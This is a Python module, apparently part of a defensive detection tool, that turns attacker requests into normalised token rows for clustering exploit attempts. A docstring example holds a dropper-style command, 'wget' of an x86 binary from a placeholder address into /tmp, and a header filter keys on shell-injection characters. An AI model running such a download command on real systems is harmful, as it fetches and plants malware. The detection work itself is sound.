"""What an attacker's text looks like once everything that varies from one try to the next is taken out.

A text becomes a row of tokens, in the manner of Drain (He et al., "Drain: An Online Log Parsing Approach with Fixed
Depth Tree", 2017), but with the classes of what attackers vary rather than a tree of positions: numbers, addresses and
hosts, hexadecimal, base64, escapes, and words that a machine made up. What is left is how the thing is done.
"""

import re
from collections.abc import Iterator
from urllib.parse import unquote_to_bytes

import msgspec

from propolis.detection.fields import Fields

TEXT_BYTES = 4_096
"""How much of a text is looked at: what an exploit is stands in its first lines."""
MAX_TOKENS = 256
"""Tokens of one text; what follows is not looked at."""
WORD_BYTES = 40
"""A longer word is of the class ``<long>``."""
MAX_HEADERS = 16
"""Headers of a request that are looked at, beside the common ones, which are not."""

NUMBER, HEX, RANDOM, ADDRESS, HOST, ESCAPED, BINARY, LONG = (
    b"<number>",
    b"<hex>",
    b"<random>",
    b"<address>",
    b"<host>",
    b"<escaped>",
    b"<binary>",
    b"<long>",
)
CLASSES = frozenset({NUMBER, HEX, RANDOM, ADDRESS, HOST, ESCAPED, BINARY, LONG})
"""Tokens that stand for whatever was there."""

_TOKEN = re.compile(
    rb"(?P<address>(?<![\w.])\d{1,3}(?:\.\d{1,3}){3}(?![\w.]))"
    rb"|(?P<host>(?<=://)(?:[\w-]{1,63}\.){1,8}[\w-]{1,63})"
    rb"|(?P<escaped>(?:\\x[0-9A-Fa-f]{2}|\\[0-7]{3}|%[0-9A-Fa-f]{2}){2,})"
    rb"|(?P<random>[A-Za-z0-9+]{24,}={0,2})"
    rb"|(?P<word>\w+)"
    rb"|(?P<binary>[^\s\x21-\x7e]+)"
    rb"|(?P<mark>[^\w\s])"
)
_HEX = re.compile(rb"0x[0-9A-Fa-f]+|(?=[A-Fa-f]*\d)[0-9A-Fa-f]{8,}")
_RUN = re.compile(rb"[a-z]+|[A-Z]+|\d+")
_CONSONANTS = re.compile(rb"[b-df-hj-np-tv-z]{8}", re.IGNORECASE)
_TELLING_AGENT = re.compile(rb"[${}<>|`]|\(\)")
_JOINING = frozenset({b"/", b"+", b"=", b"-", b".", b":", b"_"})
_COMMON = frozenset(
    b"host user-agent accept accept-encoding accept-language accept-charset connection content-length cookie origin"
    b" content-type referer cache-control pragma upgrade-insecure-requests dnt te keep-alive date range via"
    b" if-modified-since if-none-match authorization x-forwarded-for x-requested-with proxy-connection".split()
)
"""Headers that say what asks rather than what for; ``sec-`` ones too."""


class Span(msgspec.Struct, frozen=True):
    """A token, and where it stands in the text it was read from."""

    token: bytes
    start: int
    end: int


def of_request(raw: bytes) -> bytes:
    """The part of a request that says what it is for: method, target, uncommon headers and body, escapes undone once.

    Who asks is left out: the host, the client and what it accepts; a client's name that holds what no name holds stays.
    O(bytes).
    """
    fields = Fields("RequestReceived", (raw[: 2 * TEXT_BYTES], b"", b"", b"", b""))
    lines = [fields["method"] + b" " + fields["path"], *told_headers(fields["headers"]), fields["body"]]
    text = b"\n".join(lines)[:TEXT_BYTES]
    return unquote_to_bytes(text) if b"%" in text else text


def told_headers(headers: bytes) -> list[bytes]:
    """The header lines that say what a request is for, at most :data:`MAX_HEADERS`."""
    told: list[bytes] = []
    for line in headers.splitlines():
        name, _, value = line.partition(b":")
        name = name.strip().lower()
        is_usual = name in _COMMON or name.startswith(b"sec-")
        if line and (not is_usual or _TELLING_AGENT.search(value)) and len(told) < MAX_HEADERS:
            told.append(line)
    return told


def tokens(text: bytes) -> tuple[bytes, ...]:
    """The row of tokens of a text, at most :data:`MAX_TOKENS`; what varies is a class of :data:`CLASSES`. O(bytes).

    >>> b" ".join(tokens(b"wget http://198.51.100.7/x86 -O /tmp/kX9f2Qz1"))
    b'wget http : / / <address> / x86 - o / tmp / <random>'
    """
    return tuple(span.token for span in spans(text))


def spans(text: bytes) -> tuple[Span, ...]:
    """The tokens of a text with their places; neighbours of one class, and what joins them, are one token."""
    found: list[Span] = []
    for span in _read(text[:TEXT_BYTES]):
        if span.token in CLASSES:
            while found and _is_joined(found, span):
                last = found.pop()
                token = span.token if span.token == last.token else RANDOM
                span = Span(token, last.start, span.end)  # noqa: PLW2901 - one token grows
        found.append(span)
        if len(found) >= MAX_TOKENS:
            break
    return tuple(found)


def _is_joined(found: list[Span], span: Span) -> bool:
    """Whether the last token goes on in this one. A joint between two made-up words goes with them."""
    last = found[-1]
    if last.end != span.start:
        return False
    if len(found) > 1 and last.token in _JOINING and {found[-2].token, span.token} <= {RANDOM, HEX, LONG}:
        joint = found.pop()
        found[-1] = Span(found[-1].token, found[-1].start, joint.end)
        return True
    return last.token in {RANDOM, HEX, LONG, ESCAPED, BINARY} and span.token in {
        RANDOM,
        HEX,
        LONG,
        ESCAPED,
        BINARY,
    }


def _read(text: bytes) -> Iterator[Span]:
    for match in _TOKEN.finditer(text):
        yield Span(_token(match.lastgroup or "", match[0]), match.start(), match.end())


def _token(kind: str, text: bytes) -> bytes:
    match kind:
        case "word":
            return _word(text)
        case "mark":
            return text
        case "random":
            return _word(text)
        case _:
            return b"<%s>" % kind.encode()


def _word(word: bytes) -> bytes:
    if word.isdigit():
        return NUMBER
    if _HEX.fullmatch(word):
        return HEX
    if is_random(word):
        return RANDOM
    return word.lower() if len(word) <= WORD_BYTES else LONG


def is_random(word: bytes) -> bool:
    """Whether a word looks drawn by a machine: letters, digits and cases change places as nobody would write them.

    >>> is_random(b"kX9f2Qz1"), is_random(b"sha256sum"), is_random(b"getRuntimeExec")
    (True, False, False)
    """
    if len(word) < 6:
        return False
    runs = [run for part in word.split(b"_") for run in _RUN.findall(_uncapitalised(part))]
    if len(runs) >= 4 and len(word) < 2.4 * len(runs):
        return True
    return any(map(_CONSONANTS.search, runs)) or (len(word) >= 24 and len(runs) >= 6)


def _uncapitalised(word: bytes) -> bytes:
    """A capital before small letters is one word with them."""
    return re.sub(rb"[A-Z](?=[a-z]{2})", lambda found: b" " + found[0].lower(), word)
